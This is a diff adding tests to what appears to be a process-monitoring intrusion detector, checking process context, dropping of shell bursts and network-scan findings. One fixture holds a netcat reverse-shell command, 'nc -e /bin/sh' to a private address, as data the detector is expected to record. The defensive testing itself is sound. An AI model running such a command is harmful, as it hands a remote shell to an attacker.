@@ -4,6 +4,7 @@
  */
 import { afterAll, beforeAll, describe, expect, test } from 'bun:test'
 import { FactKeeper } from '../../src/agent/fact-keeper.ts'
+import type { Proof } from '../../src/domain/finding.ts'
 import type { Process } from '../../src/domain/process.ts'
 import { procStat } from '../../src/facts/proc-files.ts'
 import type { FactsReader } from '../../src/facts/reader.ts'
@@ -109,5 +110,47 @@ describe.skipIf(!isRoot)('with a reader', () => {
       finding: { question: 'masquerade' },
     })
     expect(keeper.status().proofs).toBeGreaterThan(0)
+  })
+
+  test('one that nobody could look at is known by what the kernel told of it', () => {
+    const above = { pid: 4_194_000, name: 'bash', exe: '/usr/bin/bash', startMs: 1_000 }
+    const child = {
+      ...{ pid: 4_194_001, name: 'nc', startMs: second * 1000, ppid: above.pid, uid: 33 },
+      command: 'nc -e /bin/sh 10.0.0.9 4444',
+    }
+    const frame = frameOf(second++, [
+      { ...above, counts: { clone: 1 } },
+      { ...child, counts: { execve: 1 } },
+    ])
+    keeper.push(frame)
+    expect(keeper.context(frame.processes[1]!)).toMatchObject({
+      ...{ uid: 33, command: child.command },
+      parents: [{ pid: above.pid, name: 'bash', exe: '/usr/bin/bash' }],
+    })
+  })
+
+  test('who starts many shells in a second takes no looks from others', () => {
+    const { dropped } = keeper.status()
+    const starter = { pid: 4_194_002, name: 'make', startMs: 1_000, counts: { clone: 40 } }
+    const shells = Array.from({ length: 40 }, (_, i) => ({
+      ...{ pid: 4_195_000 + i, name: 'sh', exe: '/usr/bin/dash', startMs: second * 1000 },
+      ...{ ppid: starter.pid, counts: { execve: 1 } },
+    }))
+    keeper.push(frameOf(second++, [starter, ...shells]))
+    expect(keeper.status().dropped - dropped).toBe(36)
+  })
+
+  test('who is proven by counts alone is looked at before that is told', async () => {
+    const child = Bun.spawn(['sleep', '100'])
+    const scanner = { pid: child.pid, startMs: Date.now(), name: 'sleep' }
+    let proof: Proof | undefined
+    await until('a proof', () => {
+      keeper.push(frameOf(second++, [{ ...scanner, counts: { connect: 300, write: 1 } }]))
+      proof ??= keeper.proofs().find(({ process }) => process.pid === child.pid)
+      return proof
+    })
+    child.kill('SIGKILL')
+    expect(proof?.finding.question).toBe('network-scan')
+    expect(keeper.context(proof!.process)).toMatchObject({ user: 'root', command: 'sleep 100' })
   })
 })
